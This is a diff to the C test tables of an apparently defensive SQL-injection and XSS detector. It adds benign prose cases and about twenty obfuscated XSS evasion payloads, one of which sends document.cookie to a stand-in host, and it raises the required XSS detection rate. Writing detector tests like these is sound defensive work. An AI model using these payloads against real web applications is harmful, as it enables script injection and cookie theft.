@@ -125,6 +125,7 @@ static void test_sqli_table(void **st)
 		{"copy prose", "copy this from the doc", Q, DP_NONE},
 		{"if prose", "if (you can) call me", Q, DP_NONE},
 		{"version note", "5.1 and 5.2 (beta) or later", Q, DP_NONE},
+		{"sleep prose", "sleep(8) hours a night", Q, DP_NONE},
 	};
 	run_table(t, sizeof(t) / sizeof(t[0]));
 }
@@ -149,6 +150,27 @@ static void test_xss_table(void **st)
 		{"style expression", "<div style=\"width:expression(alert(1))\">", Q, DP_XSS},
 		{"meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=//x\">", Q, DP_XSS},
 		{"unknown tag handler", "<foo onpointerenter=alert(1)>", Q, DP_XSS},
+		{"details ontoggle", "<details open ontoggle=alert(1)>", Q, DP_XSS},
+		{"handler with junk", "<body onload!#$%&()*~+-_.,:;?@[/|]^`=alert(1)>", Q, DP_XSS},
+		{"handler after newline", "<svg\nonload=alert(1)", Q, DP_XSS},
+		{"no closing gt", "<img src=x onerror=alert(1)//", Q, DP_XSS},
+		{"slash in unquoted value", "<img src=x/onerror=alert(1)>", Q, DP_XSS},
+		{"unquoted attr break", "x onmouseover=alert(1) y=", Q, DP_XSS},
+		{"slash attr break", "/onfocus=confirm(1) autofocus", Q, DP_XSS},
+		{"entity tab in unquoted url", "<a href=jav&#x09;ascript:alert(1)>x</a>", Q, DP_XSS},
+		{"entities no semicolon", "<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61(1)>", Q, DP_XSS},
+		{"comment in scheme", "<img src=\"javas<!-- -->cript:alert(1)\">", Q, DP_XSS},
+		{"css escapes", "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>", Q, DP_XSS},
+		{"css comment in expression", "<img style=\"x:expr/**/ession(alert(1))\">", Q, DP_XSS},
+		{"css hex escapes", "<div style=\"background:\\75\\72\\6c(\\6a avascript:alert(1))\">", Q, DP_XSS},
+		{"style behavior element", "<style>*{behavior:url(x.htc)}</style>", Q, DP_XSS},
+		{"style typed script", "<style type=\"text/javascript\">alert(1)</style>", Q, DP_XSS},
+		{"meta link", "<meta http-equiv=\"link\" content=\"<//x.example/a.css>; rel=stylesheet\">", Q, DP_XSS},
+		{"js break find", "';[1].find(alert)//", Q, DP_XSS},
+		{"js break computed", "\"-top['al'+'ert'](1)-\"", Q, DP_XSS},
+		{"js break paren", "');this.src='//x.example/'+document.cookie;//", Q, DP_XSS},
+		{"template literal", "${alert(document.domain)}", Q, DP_XSS},
+		{"svg animate values", "<svg><animate attributeName=href values=javascript:alert(1) />", Q, DP_XSS},
 		{"less than three", "I <3 cats", Q, DP_NONE},
 		{"math", "3<5 and 7>2", Q, DP_NONE},
 		{"bold html", "<b>bold</b> and <i>it</i>", Q, DP_NONE},
@@ -157,6 +179,15 @@ static void test_xss_table(void **st)
 		{"quote on word", "\"online\" shopping", Q, DP_NONE},
 		{"arrow", "a -> b <- c", Q, DP_NONE},
 		{"javascript word", "learn javascript: the good parts", Q, DP_NONE},
+		{"javascript title", "javascript: the good parts, chapter 3", Q, DP_NONE},
+		{"svg as a word", "<svg> icons scale well", Q, DP_NONE},
+		{"feet and inches", "5' 10\" tall; print the form", Q, DP_NONE},
+		{"onclick prose", "set onclick handler in the options", Q, DP_NONE},
+		{"online param", "online=yes onsale=true", Q, DP_NONE},
+		{"template price", "${price} total", Q, DP_NONE},
+		{"code in backticks", "Use `eval()` sparingly", Q, DP_NONE},
+		{"quoted then confirm", "\"; confirm your email", Q, DP_NONE},
+		{"styled span", "<span style=\"color:red\">sale</span>", Q, DP_NONE},
 	};
 	run_table(t, sizeof(t) / sizeof(t[0]));
 }
@@ -598,7 +629,7 @@ static void test_generated_tables(void **st)
 		int min_permille;
 	} t[] = {
 		{"tests/data/gen-sqli.txt", DP_SQLI, 995},
-		{"tests/data/gen-xss.txt", DP_XSS, 800},
+		{"tests/data/gen-xss.txt", DP_XSS, 995},
 	};
 	for (size_t g = 0; g < sizeof(t) / sizeof(t[0]); g++) {
 		struct rate r = {t[g].kind, 0, 0, 0, 0};
